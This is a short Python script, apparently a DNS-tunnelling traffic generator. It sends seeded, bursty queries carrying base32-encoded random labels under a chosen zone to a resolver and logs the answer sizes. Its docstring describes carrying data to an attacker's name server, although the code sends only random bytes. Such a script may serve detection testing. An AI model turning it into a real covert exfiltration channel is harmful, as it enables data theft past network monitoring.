"""Carries data to an attacker's name server in the names that it asks for, and takes data from the answers.

dns_tunnel.py RESOLVER ZONE SEED LABELS TYPE QUERIES_PER_SECOND SECONDS    prints `got OCTETS` for each answer, OCTETS that came with it

Names are base32 in LABELS labels of up to 50 octets; TYPE is A, TXT or NULL.
"""
import base64
import random
import socket
import struct
import sys
import time

resolver, zone, seed, labels, kind, rate, seconds = sys.argv[1:]
chance = random.Random(int(seed))
KIND = {'A': 1, 'NULL': 10, 'TXT': 16}[kind]
OCTETS = chance.randint(12, 31)
asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asking.settimeout(3)
end = time.monotonic() + float(seconds)


def name_of(turn):
    parts = [base64.b32encode(chance.randbytes(OCTETS)).decode().rstrip('=').lower() for _ in range(int(labels))]
    wire = b''.join(bytes([len(part)]) + part.encode() for part in [*parts, f'{turn:x}', *zone.split('.')])
    return wire + b'\0'


turn = 0
while time.monotonic() < end:
    turn += 1
    # Bursts with a pause after each: data come in files.
    for _ in range(chance.randint(5, 60)):
        began = time.monotonic()
        if began > end:
            break
        turn += 1
        question = struct.pack('!HHHHHH', chance.randint(0, 65_535), 0x0100, 1, 0, 0, 0) + name_of(turn) + struct.pack('!HH', KIND, 1)
        asking.sendto(question, (resolver, 53))
        try:
            print('got', len(asking.recv(4_096)) - len(question), flush=True)
        except OSError:
            print('lost', flush=True)
        time.sleep(max(0, chance.expovariate(float(rate)) - (time.monotonic() - began)))
    time.sleep(min(max(0, end - time.monotonic()), chance.uniform(0, 20) / float(rate)))
